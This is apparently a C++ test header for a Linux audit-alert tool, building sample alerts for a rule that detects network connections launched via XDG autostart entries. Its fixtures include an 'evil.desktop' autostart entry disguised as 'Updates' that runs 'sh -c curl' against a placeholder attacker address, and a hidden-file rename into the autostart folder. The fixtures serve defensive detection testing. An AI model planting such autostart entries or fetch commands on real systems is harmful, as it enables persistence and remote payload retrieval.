// SPDX-License-Identifier: Apache-2.0
// An alert with every field set: what the formatter and sink tests start from.
#pragma once

#include "lib/alert/alert.h"

namespace audisp_eql::test {

inline alert::RuleInfo sample_rule() {
  alert::RuleInfo rule;
  rule.id = "dd52d45a-4602-4195-9018-ebe0f219c273";
  rule.name = "Network Connections Initiated Through XDG Autostart Entry";
  rule.version = "3";
  rule.references = {"https://attack.mitre.org/techniques/T1547/013/", "https://example.org/second"};
  rule.severity = alert::RuleSeverity::kMedium;
  rule.risk_score = 47;
  alert::Technique technique{"T1547", "Boot or Logon Autostart Execution", "https://example.org", {}};
  technique.subtechniques.push_back({"T1547.013", "XDG Autostart Entries", "https://example.org", {}});
  rule.threats.push_back({"MITRE ATT&CK", "TA0003", "Persistence", "https://example.org", {technique}});
  return rule;
}

inline std::vector<alert::Evidence> sample_evidence() {
  alert::Evidence exec;
  exec.stage = 1;
  exec.time = milliseconds(1'795'506'063'100);
  exec.serial = 5701;
  exec.event_id = "1795506063.100:5701";
  exec.host = "desk7";
  exec.action = "exec";
  exec.pid = 24200;
  exec.outcome = "success";
  alert::Evidence connect = exec;
  connect.stage = 2;
  connect.time = milliseconds(1'795'506'063'412);
  connect.serial = 5709;
  connect.event_id = "1795506063.412:5709";
  connect.action = "connection_attempted";
  connect.outcome = "failure";
  connect.destination = alert::Destination{"203.0.113.9", 8123};
  return {exec, connect};
}

inline alert::Alert sample_alert() {
  alert::Alert a;
  a.rule = sample_rule();
  a.evidence = sample_evidence();
  a.time = a.evidence.back().time;
  a.node = "desk7";
  a.id = alert::alert_id(a.rule.id, a.node, a.evidence);
  a.created = milliseconds(1'795'506'063'500);
  a.host_id = "desk7";
  a.categories = {"process", "network"};
  a.types = {"start"};
  a.action = "sequence";
  a.user = {"1000", "alice", "1000", "1001"};
  a.process.pid = 24200;
  a.process.entity_id = "kD9f0Qm2x1Zb";
  a.process.name = "sh";
  a.process.executable = "/bin/sh";
  a.process.kernel_executable = "/usr/bin/dash";
  a.process.args = {"/bin/sh", "-c", "curl http://203.0.113.9:8123/x"};
  a.process.args_count = 3;
  a.process.working_directory = "/home/alice";
  a.parent.pid = 24100;
  a.parent.entity_id = "aP3rkV7w0Lqc";
  a.parent.name = "xfce4-session";
  a.parent.executable = "/usr/bin/xfce4-session";
  a.parent.kernel_executable = "/usr/bin/xfce4-session";
  a.parent.args = {"xfce4-session"};
  a.parent.args_count = 1;
  a.parent.working_directory = "/";
  a.network_type = "ipv4";
  a.destination = alert::Destination{"203.0.113.9", 8123};
  a.notes = {"the parent ran before auditing began"};
  return a;
}

// With the entry that it came from.
inline alert::Alert sample_entry_alert() {
  alert::Alert a = sample_alert();
  a.process.systemd_unit = "app-evil@autostart.service";
  a.launches = {a.process.args};
  a.desktop_entry.emplace();
  a.desktop_entry->path = "/home/alice/.config/autostart/evil.desktop";
  a.desktop_entry->name = "Updates";
  a.desktop_entry->exec = "sh -c \"curl http://203.0.113.9:8123/x\"";
  a.desktop_entry->owner = "1000";
  a.desktop_entry->mtime = milliseconds(1'795'500'000'000);
  a.desktop_entry->sha256 = std::string(64, '5');
  a.desktop_entry->found_by = "systemd_unit";
  return a;
}

// Of a rule on files: a rename.
inline alert::Alert sample_file_alert() {
  alert::Alert a = sample_alert();
  a.rule.name = "Autostart Entry Written";
  a.categories = {"file"};
  a.types = {"change"};
  a.action = "rename";
  a.network_type.clear();
  a.destination.reset();
  a.file.emplace();
  a.file->now = {"/home/alice/.config/autostart/a b.desktop", "a b.desktop", "desktop"};
  a.file->original = {"/tmp/.x", ".x", "x"};
  a.file->type = "file";
  a.evidence.erase(a.evidence.begin());
  a.evidence[0].stage = 1;
  a.evidence[0].action = "rename";
  a.evidence[0].outcome = "success";
  a.evidence[0].destination.reset();
  a.evidence[0].file = a.file->now.path;
  return a;
}

// What sums up alerts that a storm guard held back.
inline alert::Alert sample_summary() {
  alert::Alert a;
  a.rule = sample_rule();
  a.time = milliseconds(1'795'506'063'412);
  a.created = milliseconds(1'795'506'063'500);
  a.id = "5d7c1f0a9b3e4826d1c07f5a3b9e6842";
  a.host_id = "desk7";
  a.categories = {"process", "network"};
  a.types = {"start"};
  a.action = "alerts_suppressed";
  a.suppressed =
      alert::Suppressed{995, "0b1f6a3c5d7e9f80a1b2c3d4e5f60718", "f7e6d5c4b3a291807f6e5d4c3b2a1908", {"1000", "33"}, 3};
  return a;
}

// All text hostile, everything long: the worst for a budget.
inline alert::Alert hostile_alert(std::size_t bytes) {
  std::string text;
  const std::string piece("\"\\\x01\xFF\xE2\x80\xAE\xC3\xA9\xF0\x9F\x98\x80=|\n\x1b[31m");
  while (text.size() < bytes) text += piece;
  alert::Alert a = sample_alert();
  a.rule.id = a.rule.name = a.rule.version = text;
  a.rule.references = {text};
  a.rule.threats = {{text, text, text, text, {{text, text, text, {{text, text, text, {}}}}}}};
  a.node = a.host_id = a.action = a.network_type = text;
  a.user = {text, text, text, text};
  for (alert::ProcessInfo* p : {&a.process, &a.parent}) {
    p->entity_id = p->name = p->executable = p->kernel_executable = p->working_directory = p->systemd_unit = text;
    p->args.assign(50, text);
    p->args_count = INT64_MIN;
    p->pid = INT64_MIN;
  }
  a.categories.assign(20, text);
  a.types.assign(20, text);
  a.notes.assign(20, text);
  for (alert::Evidence& e : a.evidence) {
    e.host = e.action = e.outcome = text;
    e.serial = UINT64_MAX;
    e.destination = alert::Destination{text, INT64_MIN};
    e.file = text;
  }
  a.evidence.insert(a.evidence.end(), 30, a.evidence.front());
  a.destination = alert::Destination{text, INT64_MIN};
  a.file = alert::FileInfo{{text, text, text}, {text, text, text}, text, text};
  a.desktop_entry = alert::DesktopEntryInfo{text, text, text, "4294967295", {}, std::string(64, 'f'), "systemd_unit"};
  a.launches.assign(3, a.process.args);
  a.rule.severity = alert::RuleSeverity::kCritical;
  a.rule.risk_score = INT32_MIN;
  return a;
}

// The same of a summary, which has no process, destination, file or evidence.
inline alert::Alert hostile_summary(std::size_t bytes) {
  alert::Alert a = hostile_alert(bytes);
  a.process = a.parent = {};
  a.destination.reset();
  a.file.reset();
  a.desktop_entry.reset();
  a.evidence.clear();
  a.suppressed = alert::Suppressed{UINT64_MAX - 16, std::string(32, 'a'), std::string(32, 'b'), {}, UINT64_MAX - 16};
  a.suppressed->users.assign(16, a.rule.name);
  return a;
}

}  // namespace audisp_eql::test
